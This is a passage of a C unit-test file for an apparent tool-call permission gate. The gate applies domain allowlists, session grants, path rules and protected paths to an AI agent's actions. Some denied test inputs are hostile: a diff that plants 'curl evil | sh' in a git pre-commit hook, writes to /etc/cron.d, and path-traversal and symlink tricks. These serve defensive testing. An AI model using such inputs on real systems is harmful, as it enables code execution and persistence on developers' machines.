	assert_int_equal(decide(g, "fetch", TC_RISK_NETWORK, "{\"url\":\"http://[::1]:8080\"}", &v),
	                 GATE_DENY);
	expect_reason(&v, "\"[::1]:8080\" to policy.network.allow");
	assert_int_equal(decide(g, "fetch", TC_RISK_NETWORK,
	                        "{\"url\":\"https://example.com:443/x:9\"}", &v),
	                 GATE_DENY);
	assert_null(strstr(v.reason, "policy.network.allow"));
}

static void test_network_policy_ask_level_asks_for_unlisted_hosts(void **state)
{
	struct fx *f = *state;
	f->p.levels[TC_RISK_NETWORK] = GATE_ASK;
	add_domain(&f->p, "*.example.com");
	struct gate *g = gate(f);
	struct gate_verdict v;
	assert_int_equal(decide(g, "f", TC_RISK_NETWORK, "{\"url\":\"https://a.example.com\"}", &v),
	                 GATE_ALLOW);
	assert_int_equal(decide(g, "f", TC_RISK_NETWORK, "{\"url\":\"https://example.com\"}", &v),
	                 GATE_ASK);
}

static void test_network_tool_without_url_arg_is_denied(void **state)
{
	struct fx *f = *state;
	add_domain(&f->p, "example.com");
	struct gate *g = gate(f);
	json_t *a = J("{\"url\":\"https://example.com\"}");
	struct gate_call call = plain_call("f", TC_RISK_NETWORK);
	call.args = a;
	call.url_arg = NULL;
	struct gate_verdict v;
	gate_authorize(g, &call, &v);
	assert_int_equal(v.action, GATE_DENY);
	expect_reason(&v, "declares no URL argument");
	json_decref(a);
}

/* A manifest's risk ["network", "destructive"] is destructive, but the
 * tool still reaches the host in its URL argument: the allowlist and
 * policy.levels.network hold for it as for a network tool. */
static void test_destructive_tool_with_url_arg_keeps_the_allowlist(void **state)
{
	struct fx *f = *state;
	f->p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
	add_domain(&f->p, "example.com");
	struct gate *g = gate(f);
	struct gate_verdict v;
	json_t *ok = J("{\"url\":\"https://example.com/x\"}");
	json_t *off = J("{\"url\":\"https://evil.net/x\"}");
	struct gate_call call = plain_call("purge", TC_RISK_DESTRUCTIVE);
	call.args = ok;
	call.url_arg = "/url";
	gate_authorize(g, &call, &v);
	assert_int_equal(v.action, GATE_ALLOW);
	call.args = off;
	gate_authorize(g, &call, &v);
	assert_int_equal(v.action, GATE_DENY);
	expect_reason(&v, "host evil.net is not on the domain allowlist");
	fx_reset(f);
	add_domain(&f->p, "example.com");
	f->p.levels[TC_RISK_NETWORK] = GATE_DENY;
	g = gate(f);
	call.args = ok;
	gate_authorize(g, &call, &v);
	assert_int_equal(v.action, GATE_DENY);
	expect_reason(&v, "policy.levels.network is deny");
	call.url_arg = NULL; /* no URL argument: only its own level */
	gate_authorize(g, &call, &v);
	assert_int_equal(v.action, GATE_ASK);
	json_decref(ok);
	json_decref(off);
}

static void test_policy_levels_are_configurable(void **state)
{
	struct fx *f = *state;
	f->p.levels[TC_RISK_READ_ONLY] = GATE_ASK;
	f->p.levels[TC_RISK_DESTRUCTIVE] = GATE_DENY;
	struct gate *g = gate(f);
	struct gate_verdict v;
	assert_int_equal(decide(g, "r", TC_RISK_READ_ONLY, "{}", &v), GATE_ASK);
	assert_false(v.audit);
	assert_int_equal(decide(g, "w", TC_RISK_WRITE, "{}", &v), GATE_ALLOW);
	assert_true(v.audit);
	assert_int_equal(decide(g, "d", TC_RISK_DESTRUCTIVE, "{}", &v), GATE_DENY);
	expect_reason(&v, "policy.levels.destructive is deny");
}

/* ---- session grants and tokens ---------------------------------------- */

static void test_session_grant_allows_identical_call(void **state)
{
	struct fx *f = *state;
	struct gate *g = gate(f);
	json_t *args = J("{\"path\":\"x\",\"force\":true}");
	assert_int_equal(gate_grant_session(g, 0, "rm", args, NULL), 0);
	assert_int_equal(gate_grant_session(g, 0, "rm", args, NULL), 0); /* no duplicate */
	struct gate_verdict v;
	/* Same arguments, other key order: canonical JSON is the same. */
	assert_int_equal(decide(g, "rm", TC_RISK_DESTRUCTIVE, "{\"force\":true,\"path\":\"x\"}",
	                        &v),
	                 GATE_ALLOW);
	assert_true(v.granted);
	assert_string_equal(v.check, "session-grant");
	assert_int_equal(decide(g, "rm", TC_RISK_DESTRUCTIVE, "{\"path\":\"y\",\"force\":true}",
	                        &v),
	                 GATE_ASK);
	assert_int_equal(decide(g, "rmdir", TC_RISK_DESTRUCTIVE, "{\"path\":\"x\",\"force\":true}",
	                        &v),
	                 GATE_ASK);
	json_t *list = gate_grants(g, 0);
	assert_int_equal(json_array_size(list), 1);
	json_t *want = J("[{\"tool\":\"rm\",\"args\":{\"force\":true,\"path\":\"x\"}}]");
	assert_true(json_equal(list, want));
	json_decref(want);
	json_decref(list);
	json_decref(args);
}

static void test_session_grant_applies_in_its_own_session_only(void **state)
{
	struct fx *f = *state;
	struct gate *g = gate(f);
	json_t *args = J("{\"path\":\"x\"}");
	assert_int_equal(gate_grant_session(g, 7, "rm", args, NULL), 0);
	struct gate_verdict v;
	struct gate_call call = plain_call("rm", TC_RISK_DESTRUCTIVE);
	call.args = args;
	call.session = 7;
	gate_authorize(g, &call, &v);
	assert_int_equal(v.action, GATE_ALLOW);
	assert_true(v.granted);
	call.session = 8;
	gate_authorize(g, &call, &v);
	assert_int_equal(v.action, GATE_ASK);
	call.session = 0;
	gate_authorize(g, &call, &v);
	assert_int_equal(v.action, GATE_ASK);
	json_t *list = gate_grants(g, 8);
	assert_int_equal(json_array_size(list), 0);
	json_decref(list);
	gate_forget_session(g, 7);
	call.session = 7;
	gate_authorize(g, &call, &v);
	assert_int_equal(v.action, GATE_ASK);
	json_decref(args);
}

static void test_session_grant_never_lifts_a_deny(void **state)
{
	struct fx *f = *state;
	add_rule(&f->p,
	         "{\"action\":\"deny\",\"tool\":\"rm\",\"args\":{\"/path\":\"**/.git/**\"}}");
	struct gate *g = gate(f);
	json_t *args = J("{\"path\":\".git/x\"}");
	assert_int_equal(gate_grant_session(g, 0, "rm", args, NULL), 0);
	struct gate_verdict v;
	assert_int_equal(decide(g, "rm", TC_RISK_DESTRUCTIVE, "{\"path\":\".git/x\"}", &v),
	                 GATE_DENY);
	gate_set_quarantine(g, true);
	json_t *a2 = J("{\"path\":\"ok\"}");
	assert_int_equal(gate_grant_session(g, 0, "rm", a2, NULL), 0);
	assert_int_equal(decide(g, "rm", TC_RISK_DESTRUCTIVE, "{\"path\":\"ok\"}", &v), GATE_DENY);
	json_decref(a2);
	json_decref(args);
}

static void test_token_is_used_once(void **state)
{
	struct fx *f = *state;
	struct gate *g = gate(f);
	json_t *args = J("{\"b\":1,\"a\":[1,2]}");
	json_t *same = J("{\"a\":[1,2],\"b\":1}");
	uint64_t t = gate_grant_once(g, "rm", args);
	assert_true(t != 0);
	assert_int_equal(gate_consume(g, t, "rm", same), 0);
	assert_int_equal(gate_consume(g, t, "rm", same), -1);
	json_decref(args);
	json_decref(same);
}

static void test_token_refuses_changed_arguments_and_is_revoked(void **state)
{
	struct fx *f = *state;
	struct gate *g = gate(f);
	json_t *args = J("{\"path\":\"a\"}");
	json_t *other = J("{\"path\":\"b\"}");
	uint64_t t = gate_grant_once(g, "rm", args);
	assert_int_equal(gate_consume(g, t, "rm", other), -1);
	assert_int_equal(gate_consume(g, t, "rm", args), -1); /* revoked by the mismatch */
	uint64_t t2 = gate_grant_once(g, "rm", args);
	assert_true(t2 != t);
	assert_int_equal(gate_consume(g, t2, "rmdir", args), -1);
	json_decref(args);
	json_decref(other);
}

static void test_token_revoke_and_unknown_tokens(void **state)
{
	struct fx *f = *state;
	struct gate *g = gate(f);
	json_t *args = J("{}");
	uint64_t t = gate_grant_once(g, "rm", args);
	gate_revoke(g, t);
	assert_int_equal(gate_consume(g, t, "rm", args), -1);
	assert_int_equal(gate_consume(g, 0, "rm", args), -1);
	assert_int_equal(gate_consume(g, 12345, "rm", args), -1);
	json_decref(args);
}

static void test_policy_copy_is_deep(void **state)
{
	(void)state;
	struct gate_policy p, q;
	gate_policy_init(&p);
	add_rule(&p,
	         "{\"action\":\"deny\",\"tool\":\"x\",\"args\":{\"/a\":\"b\"},\"reason\":\"r\"}");
	add_domain(&p, "example.com");
	assert_int_equal(gate_policy_copy(&q, &p), 0);
	assert_ptr_not_equal(q.rules[0].tool, p.rules[0].tool);
	assert_string_equal(q.rules[0].args[0].glob, "b");
	assert_string_equal(q.domains[0], "example.com");
	gate_policy_release(&p);
	assert_string_equal(q.rules[0].reason, "r");
	assert_int_equal(p.nrules, 0);
	gate_policy_release(&q);
}

/* ---- path arguments ------------------------------------------------------ */

static const char *const one_path[] = { "/path", NULL };
static const char *const two_paths[] = { "/source", "/destination", NULL };
static const char *const protected_list[] = {
	".git/config",   ".git/hooks",          ".envrc", "**/.git/config",
	"**/.git/hooks", "**/*.code-workspace", NULL
};

/* A call of tool in the workspace w, with the protected paths above. */
static struct gate_call ws_call(const struct ws_fx *w, const char *tool, enum tc_risk risk)
{
	return (struct gate_call){ .tool = tool,
		                   .risk = risk,
		                   .workspace = w->dir,
		                   .workspace_fd = w->fd,
		                   .protected_paths = protected_list };
}

static enum gate_action decide_paths(struct gate *g, const struct ws_fx *w, const char *tool,
                                     enum tc_risk risk, const char *const *path_args,
                                     const char *args, struct gate_verdict *v)
{
	struct gate_call call = ws_call(w, tool, risk);
	call.path_args = path_args;
	return authorize(g, call, J(args), v);
}

/* docs/config.md's example: tmp/ without asking, anything else asks. */
static struct gate *tmp_gate(struct fx *f)
{
	f->p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
	add_rule(&f->p, "{\"action\": \"allow\", \"tool\": \"*\", \"path\": \"tmp/**\"}");
	add_rule(&f->p, "{\"action\": \"ask\", \"tool\": \"*\"}");
	return gate(f);
}

/* "tmp/../src" is src: an allow rule on everything below tmp must not let
 * it through, nor a path whose way goes through a symbolic link out of tmp. */
static void test_gate_path_allow_rule_sees_through_dotdot_and_links(void **state)
{
	struct fx *f = *state;
	struct gate_verdict v;
	struct gate *g = tmp_gate(f);
	const char *asks[] = { "{\"path\": \"tmp/../src\"}",  "{\"path\": \"tmp/lnk/a\"}",
		               "{\"path\": \"tmp/lnk\"}",     "{\"path\": \"tmp/../../x\"}",
		               "{\"path\": \"/etc/passwd\"}", "{\"path\": \"src\"}" };
	for (size_t i = 0; i < sizeof asks / sizeof *asks; i++)
		if (decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE, one_path, asks[i],
		                 &v) != GATE_ASK)
			fail_msg("%s was not asked about: %s", asks[i], v.reason);
	const char *allows[] = { "{\"path\": \"tmp/x\"}", "{\"path\": \"./tmp//x/\"}",
		                 "{\"path\": \"tmp/new/deeper\"}" };
	for (size_t i = 0; i < sizeof allows / sizeof *allows; i++)
		if (decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE, one_path, allows[i],
		                 &v) != GATE_ALLOW)
			fail_msg("%s was not allowed: %s", allows[i], v.reason);
	/* an absolute path inside the workspace is the same path */
	char abs[160];
	snprintf(abs, sizeof abs, "{\"path\": \"%s/tmp/x\"}", f->w.dir);
	assert_int_equal(decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE, one_path, abs,
	                              &v),
	                 GATE_ALLOW);
}

/* An allow on paths needs every path argument inside: moving src into
 * tmp is not "in tmp". */
static void test_gate_path_allow_rule_needs_every_path_argument(void **state)
{
	struct fx *f = *state;
	struct gate_verdict v;
	struct gate *g = tmp_gate(f);
	assert_int_equal(decide_paths(g, &f->w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
	                              "{\"source\": \"src\", \"destination\": \"tmp/x\"}", &v),
	                 GATE_ASK);
	assert_int_equal(decide_paths(g, &f->w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
	                              "{\"source\": \"tmp/a\", \"destination\": \"tmp/b\"}", &v),
	                 GATE_ALLOW);
	/* no path argument at all: a path rule does not match */
	assert_int_equal(decide_paths(g, &f->w, "purge", TC_RISK_DESTRUCTIVE, NULL, "{}", &v),
	                 GATE_ASK);
}

/* A deny rule on paths holds for every path argument whatever its name
 * and spelling: "source" as well as "path", "./x//", "a/..", a link. */
static void test_gate_path_deny_rule_any_argument_any_spelling(void **state)
{
	struct fx *f = *state;
	struct gate_verdict v;
	f->p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
	add_rule(&f->p, "{\"action\": \"deny\", \"tool\": \"*\", \"path\": \"**/.git/**\"}");
	struct gate *g = gate(f);
	const char *denied[] = {
		"{\"source\": \".git/config\", \"destination\": \"x\"}",
		"{\"source\": \"x\", \"destination\": \".git/y\"}",
		"{\"source\": \"./.git//objects/\", \"destination\": \"x\"}",
		"{\"source\": \"src/../.git/objects\", \"destination\": \"x\"}",
		"{\"source\": \"gitlink/objects\", \"destination\": \"x\"}",
	};
	for (size_t i = 0; i < sizeof denied / sizeof *denied; i++)
		if (decide_paths(g, &f->w, "move_path", TC_RISK_DESTRUCTIVE, two_paths, denied[i],
		                 &v) != GATE_DENY)
			fail_msg("%s was not denied", denied[i]);
	assert_int_equal(decide_paths(g, &f->w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
	                              "{\"source\": \"src/a\", \"destination\": \".gitignore\"}",
	                              &v),
	                 GATE_ALLOW);
}

/* "args" entries at a path argument see the path as resolved too. */
static void test_gate_args_rule_on_path_argument_is_normalized(void **state)
{
	struct fx *f = *state;
	struct gate_verdict v;
	add_rule(&f->p, "{\"action\": \"deny\", \"args\": {\"/path\": \"src/**\"}}");
	add_rule(&f->p, "{\"action\": \"allow\", \"args\": {\"/path\": \"tmp/**\"}}");
	add_rule(&f->p, "{\"action\": \"ask\"}");
	struct gate *g = gate(f);
	assert_int_equal(decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path,
	                              "{\"path\": \"tmp/../src/a\"}", &v),
	                 GATE_DENY);
	assert_int_equal(decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path,
	                              "{\"path\": \"tmp/lnk/a\"}", &v),
	                 GATE_DENY);
	assert_int_equal(decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path,
	                              "{\"path\": \"tmp//b\"}", &v),
	                 GATE_ALLOW);
}

/* Protected paths: a tool that writes may not name one or a path below
 * one, however spelled, existing or not; a read-only tool may read them. */
static void test_gate_protected_paths_deny_writing_tools(void **state)
{
	struct fx *f = *state;
	struct gate_verdict v;
	f->p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
	add_rule(&f->p, "{\"action\": \"allow\", \"path\": \"**\"}");
	struct gate *g = gate(f);
	const char *denied[] = {
		"{\"path\": \".git/config\"}",    "{\"path\": \".git/hooks/pre-commit\"}",
		"{\"path\": \".envrc\"}",         "{\"path\": \"./src/../.envrc\"}",
		"{\"path\": \"gitlink/config\"}", "{\"path\": \".git//hooks/\"}"
	};
	for (size_t i = 0; i < sizeof denied / sizeof *denied; i++) {
		if (decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path, denied[i], &v) !=
		    GATE_DENY)
			fail_msg("%s was not denied", denied[i]);
		assert_string_equal(v.check, "protected");
	}
	expect_reason(&v, "protected path .git/hooks");
	assert_int_equal(decide_paths(g, &f->w, "read_file", TC_RISK_READ_ONLY, one_path,
	                              "{\"path\": \".git/config\"}", &v),
	                 GATE_ALLOW);
	assert_int_equal(decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path,
	                              "{\"path\": \".git/objects/x\"}", &v),
	                 GATE_ALLOW);
	assert_int_equal(decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path,
	                              "{\"path\": \".envrc.example\"}", &v),
	                 GATE_ALLOW);
	assert_int_equal(decide_paths(g, &f->w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
	                              "{\"source\": \"src/a\", \"destination\": \".envrc\"}", &v),
	                 GATE_DENY);
	/* a control character in the path shows as its picture */
	assert_int_equal(decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path,
	                              "{\"path\": \"src/\\n/../../.envrc\"}", &v),
	                 GATE_DENY);
	assert_null(strchr(v.reason, '\n'));
}

static enum gate_action decide_patch(struct gate *g, const struct ws_fx *w, const char *patch,
                                     struct gate_verdict *v);

/* Patterns hold at any depth: a nested repository's hooks and config,
 * however spelled, and names such as *.code-workspace. */
static void test_gate_protected_patterns_any_depth(void **state)
{
	struct fx *f = *state;
	struct gate_verdict v;
	add_rule(&f->p, "{\"action\": \"allow\", \"path\": \"**\"}");
	struct gate *g = gate(f);
	const char *denied[] = { "{\"path\": \"vendor/x/.git/hooks/pre-commit\"}",
		                 "{\"path\": \"a/b/c/.git/config\"}",
		                 "{\"path\": \"vendor/x/.git/hooks\"}",
		                 "{\"path\": \"./vendor//x/.git/config\"}",
		                 "{\"path\": \"src/x/../../v/.git/hooks/post-checkout\"}",
		                 "{\"path\": \"tmp/lnk/.git/config\"}",
		                 "{\"path\": \"vendor/x/.git\"}",
		                 "{\"path\": \"a/b/.git/\"}",
		                 "{\"path\": \"proj.code-workspace\"}",
		                 "{\"path\": \"a/b/team.code-workspace\"}" };
	for (size_t i = 0; i < sizeof denied / sizeof *denied; i++) {
		if (decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path, denied[i], &v) !=
		    GATE_DENY)
			fail_msg("%s was not denied: %s", denied[i], v.reason);
		assert_string_equal(v.check, "protected");
	}
	expect_reason(&v, "protected path **/*.code-workspace");
	const char *allowed[] = { "{\"path\": \"vendor/x/.gitignore\"}",
		                  "{\"path\": \"vendor/x/.git/objects/ab\"}",
		                  "{\"path\": \"a/git/hooks/x\"}",
		                  "{\"path\": \"notes.code-workspace.md\"}" };
	for (size_t i = 0; i < sizeof allowed / sizeof *allowed; i++)
		if (decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path, allowed[i], &v) !=
		    GATE_ALLOW)
			fail_msg("%s was not allowed: %s", allowed[i], v.reason);
	/* a directory moved onto a nested ".git" would bring its hooks along */
	assert_int_equal(
	        decide_paths(g, &f->w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
	                     "{\"source\": \"vendor/evil\", \"destination\": \"vendor/x/.git\"}",
	                     &v),
	        GATE_DENY);
	expect_reason(&v, "\"vendor/x/.git\" matches, is below or leads to the protected path");
	assert_int_equal(decide_patch(g, &f->w,
	                              "--- /dev/null\n+++ b/lib/y/.git/hooks/pre-push\n"
	                              "@@ -0,0 +1 @@\n+x\n",
	                              &v),
	                 GATE_DENY);
	assert_string_equal(v.check, "protected");
}

/* A patch's target paths are in its text: the gate reads them with the
 * parser apply_patch uses, and every path rule, the protected paths and
 * the workspace's bounds hold for each of them; an ask or a deny names
 * the files. */
static enum gate_action decide_patch(struct gate *g, const struct ws_fx *w, const char *patch,
                                     struct gate_verdict *v)
{
	struct gate_call call = ws_call(w, "apply_patch", TC_RISK_WRITE);
	call.patch_arg = "/patch";
	return authorize(g, call, json_pack("{s:s}", "patch", patch), v);
}

static void test_gate_patch_paths_meet_every_path_rule(void **state)
{
	struct fx *f = *state;
	struct gate_verdict v;
	add_rule(&f->p, "{\"action\": \"deny\", \"path\": \"src/**\", \"reason\": \"not src\"}");
	struct gate *g = gate(f);
	const char *hunk = "@@ -0,0 +1 @@\n+x\n";
	char patch[1024];
	/* a deny rule, on a later section, through "..", through a link */
	const char *denied[] = { "--- a/src/a\n+++ b/src/a\n", "--- tmp/x\n+++ tmp/../src/a\n",
		                 "--- /dev/null\n+++ b/tmp/lnk/new\n" };
	for (size_t i = 0; i < sizeof denied / sizeof *denied; i++) {
		snprintf(patch, sizeof patch, "--- /dev/null\n+++ ok.txt\n%s%s%s", hunk, denied[i],
		         hunk);
		if (decide_patch(g, &f->w, patch, &v) != GATE_DENY)
			fail_msg("%s was not denied: %s", denied[i], v.reason);
		assert_string_equal(v.check, "rules");
		expect_reason(&v, "not src (the patch changes \"ok.txt\", \"");
	}
	/* protected paths, a new hook included */
	snprintf(patch, sizeof patch,
	         "diff --git a/x b/x\n--- /dev/null\n+++ b/.git/hooks/pre-commit\n%s", hunk);
	assert_int_equal(decide_patch(g, &f->w, patch, &v), GATE_DENY);
	assert_string_equal(v.check, "protected");
	expect_reason(&v,
	              "the patch changes \".git/hooks/pre-commit\", which is or is below the "
	              "protected path .git/hooks");
	snprintf(patch, sizeof patch, "--- a/gitlink/config\n+++ b/gitlink/config\n%s", hunk);
	assert_int_equal(decide_patch(g, &f->w, patch, &v), GATE_DENY);
	/* outside the workspace: refused before anyone is asked */
	const char *outside[] = { "../x", "/etc/cron.d/x", "tmp/../../x" };
	for (size_t i = 0; i < sizeof outside / sizeof *outside; i++) {
		snprintf(patch, sizeof patch, "--- /dev/null\n+++ %s\n%s", outside[i], hunk);
		assert_int_equal(decide_patch(g, &f->w, patch, &v), GATE_DENY);
		assert_string_equal(v.check, "patch");
		expect_reason(&v, outside[i]);
	}
	/* more files than apply_patch takes */
	size_t cap = (PATCH_FILES_MAX + 2) * 40;
	char *big = malloc(cap), *q = big;
	for (int i = 0; i <= PATCH_FILES_MAX; i++)
		q += snprintf(q, cap - (size_t)(q - big), "--- /dev/null\n+++ f%d\n%s", i, hunk);
	assert_int_equal(decide_patch(g, &f->w, big, &v), GATE_DENY);
	expect_reason(&v, "more than 100 files");
	free(big);
	/* fine: tmp/ and a new file, the headers' git prefixes dropped */
	assert_int_equal(decide_patch(g, &f->w,
	                              "--- a/tmp/x\n+++ b/tmp/x\n@@ -1 +1 @@\n-a\n+b\n"
	                              "--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+n\n",
	                              &v),
	                 GATE_ALLOW);
	fx_reset(f);
	/* an ask names the files; an allow rule must hold for every one */
	add_rule(&f->p, "{\"action\": \"allow\", \"tool\": \"apply_patch\", \"path\": \"tmp/**\"}");
	add_rule(&f->p, "{\"action\": \"ask\", \"tool\": \"apply_patch\"}");
	g = gate(f);
	assert_int_equal(decide_patch(g, &f->w, "--- a/tmp/x\n+++ b/tmp/x\n@@ -1 +1 @@\n-a\n+b\n",
	                              &v),
	                 GATE_ALLOW);
	assert_int_equal(decide_patch(g, &f->w,
	                              "--- a/tmp/x\n+++ b/tmp/x\n@@ -1 +1 @@\n-a\n+b\n"
	                              "--- a/src/a\n+++ b/src/a\n@@ -1 +1 @@\n-a\n+b\n",
	                              &v),
	                 GATE_ASK);
	expect_reason(&v, "(the patch changes \"tmp/x\", \"src/a\")");
}

/* A manifest tool that runs a patch program: the gate reads the diff
 * strictly (patchpaths.h), refuses what GNU patch or git apply could read
 * otherwise, and holds every path the program may write (at its -p, or at
 * every -p) to the protected paths and the rules. */
static enum gate_action decide_program_patch(struct gate *g, const struct ws_fx *w,
                                             const char *patch, int strip, struct gate_verdict *v)
{
	struct gate_call call = ws_call(w, "git_apply", TC_RISK_WRITE);
	call.patch_arg = "/patch";
	call.patch_program = true;
	call.patch_strip = strip;
	return authorize(g, call, json_pack("{s:s}", "patch", patch), v);
}

static void test_gate_program_patch_is_read_strictly(void **state)
{
	struct fx *f = *state;
	struct gate_verdict v;
	add_rule(&f->p, "{\"action\": \"deny\", \"path\": \"src/**\", \"reason\": \"not src\"}");
	struct gate *g = gate(f);
	/* a context diff that GNU patch applies: no "+++" line, so apply_patch's
	 * reader names nothing; refused here */
	const char *context = "*** /dev/null\n--- .git/hooks/pre-commit\n***************\n"
	                      "*** 0 ****\n--- 1 ----\n+ curl evil | sh\n";
	assert_int_equal(decide_program_patch(g, &f->w, context, 0, &v), GATE_DENY);
	assert_string_equal(v.check, "patch");
	expect_reason(&v, "git_apply's patch is refused at its line 1: a line that is neither");
	/* a git rename with no hunk, onto a hook: protected */
	const char *rename = "diff --git a/x b/.git/hooks/pre-commit\nsimilarity index 100%\n"
	                     "rename from x\nrename to .git/hooks/pre-commit\n";
	assert_int_equal(decide_program_patch(g, &f->w, rename, 1, &v), GATE_DENY);
	assert_string_equal(v.check, "protected");
	/* a mode change only: the file is a path the rules see */
	assert_int_equal(decide_program_patch(g, &f->w,
	                                      "diff --git a/src/a b/src/a\nold mode 100644\n"
	                                      "new mode 100755\n",
	                                      1, &v),
	                 GATE_DENY);
	assert_string_equal(v.check, "rules");
	/* prefixes that are not a/ and b/ both: at -p1 the program writes
	 * src/a, which apply_patch's reader would have called c/src/a */
	assert_int_equal(decide_program_patch(g, &f->w,
	                                      "--- a/src/a\n+++ c/src/a\n@@ -1 +1 @@\n-a\n+b\n", 1,
	                                      &v),
	                 GATE_DENY);
	assert_string_equal(v.check, "rules");
	/* -p unknown: every suffix is a path the program may write */
	assert_int_equal(decide_program_patch(g, &f->w,
	                                      "--- x/y/src/a\n+++ x/y/src/a\n@@ -1 +1 @@\n-a\n+b\n",
	                                      PATCH_STRIP_ANY, &v),
	                 GATE_DENY);
	assert_int_equal(decide_program_patch(g, &f->w,
	                                      "--- x/y/src/a\n+++ x/y/src/a\n@@ -1 +1 @@\n-a\n+b\n",
	                                      1, &v),
	                 GATE_ALLOW);
	/* a quoted name, a CR, a space and a date: refused */
	const char *odd[] = { "--- /dev/null\n+++ \"b/\\150ooks\"\n@@ -0,0 +1 @@\n+x\n",
		              "--- /dev/null\r\n+++ b/n\r\n@@ -0,0 +1 @@\r\n+x\r\n",
		              "--- /dev/null 2026-01-01\n+++ b/n 2026-01-01\n@@ -0,0 +1 @@\n+x\n" };
	for (size_t i = 0; i < sizeof odd / sizeof *odd; i++) {
		assert_int_equal(decide_program_patch(g, &f->w, odd[i], 1, &v), GATE_DENY);
		assert_string_equal(v.check, "patch");
	}
	/* a plain git diff is taken */
	assert_int_equal(decide_program_patch(g, &f->w,
	                                      "diff --git a/tmp/x b/tmp/x\nindex 1234567..89abcde "
	                                      "100644\n--- a/tmp/x\n+++ b/tmp/x\n@@ -1 +1 @@\n"
	                                      "-a\n+b\n",
	                                      1, &v),
	                 GATE_ALLOW);
}

/* docs/config.md's example of loosening destructive calls does what the
 * text under it says. */
static void test_gate_docs_destructive_example(void **state)
{
	struct fx *f = *state;
	struct gate_verdict v;
	f->p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
	add_rule(&f->p, "{\"action\": \"allow\", \"tool\": \"delete_path\", \"path\": \"tmp/**\"}");
	add_rule(&f->p, "{\"action\": \"ask\",   \"tool\": \"delete_path\"}");
	add_rule(&f->p, "{\"action\": \"ask\",   \"tool\": \"move_path\"}");
	add_rule(&f->p, "{\"action\": \"deny\",  \"path\": \"**/.git/**\"}");
	struct gate *g = gate(f);
	assert_int_equal(decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE, one_path,
	                              "{\"path\": \"tmp/x\", \"recursive\": true}", &v),
	                 GATE_ALLOW);
	assert_int_equal(decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE, one_path,
	                              "{\"path\": \"tmp/../src\", \"recursive\": true}", &v),
	                 GATE_ASK);
	// tmp/** allows what is under tmp, not tmp itself, however spelled
	const char *tmp_itself[] = { "tmp", "tmp/", "./tmp", "tmp//", "tmp/." };
	for (size_t i = 0; i < sizeof tmp_itself / sizeof tmp_itself[0]; i++) {
		char a[64];
		snprintf(a, sizeof a, "{\"path\": \"%s\", \"recursive\": true}", tmp_itself[i]);
		assert_int_equal(decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE,
		                              one_path, a, &v),
		                 GATE_ASK);
	}
	// while a deny rule on **/.git/** still covers .git itself
	assert_int_equal(decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE, one_path,
	                              "{\"path\": \".git\", \"recursive\": true}", &v),
	                 GATE_DENY);
	assert_int_equal(decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE, one_path,
	                              "{\"path\": \"tmp/lnk/a\"}", &v),
	                 GATE_ASK);
	assert_int_equal(decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE, one_path,
	                              "{\"path\": \"src\"}", &v),
	                 GATE_ASK);
	assert_int_equal(decide_paths(g, &f->w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
	                              "{\"source\": \"tmp/a\", \"destination\": \"tmp/b\"}", &v),
	                 GATE_ASK);
	assert_int_equal(decide_paths(g, &f->w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
	                              "{\"source\": \".git/objects\", \"destination\": \"x\"}", &v),
	                 GATE_DENY);
	assert_int_equal(decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path,
	                              "{\"path\": \"src/../.git/HEAD\"}", &v),
	                 GATE_DENY);
	assert_int_equal(decide_paths(g, &f->w, "make_dir", TC_RISK_WRITE, one_path,
	                              "{\"path\": \"src/new\"}", &v),
	                 GATE_ALLOW);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		T(test_gate_quarantine_denies_before_rules),
		T(test_gate_quarantine_lets_read_only_through),
		T(test_gate_rule_deny_comes_before_policy),
		T(test_gate_first_deny_bails_before_embedder_checks),
		T(test_gate_later_deny_overrides_earlier_ask),
		T(test_gate_ask_keeps_first_asking_reason),
		T(test_gate_allow_rule_does_not_silence_policy_ask),
		T(test_gate_embedder_check_disposer_removes_it),
		T(test_gate_invalid_check_answer_denies),
		T(test_rules_deny_checked_before_earlier_allow),
		T(test_rules_first_non_deny_match_wins),
		T(test_rules_missing_argument_does_not_match),
		T(test_rules_match_numbers_and_bools_as_json_text),
		T(test_rules_tool_glob_matches_names),
		T(test_rule_parse_refuses_bad_rules),
		T(test_glob_table),
		T(test_glob_is_linear_on_hostile_input),
		T(test_glob_check_refuses_bad_patterns),
		T(test_pointer_finds_nested_and_escaped_keys),
		T(test_rules_match_escaped_pointer_arguments),
		T(test_sockaddr_text_brackets_ipv6),
		T(test_url_host_table),
		T(test_url_host_gives_the_port),
		T(test_url_host_bracketed_brackets_ipv6_only),
		T(test_domain_allowlist_table),
		T(test_domain_check_normalizes_and_refuses),
		T(test_network_policy_uses_allowlist),
		T(test_network_policy_empty_allowlist_denies),
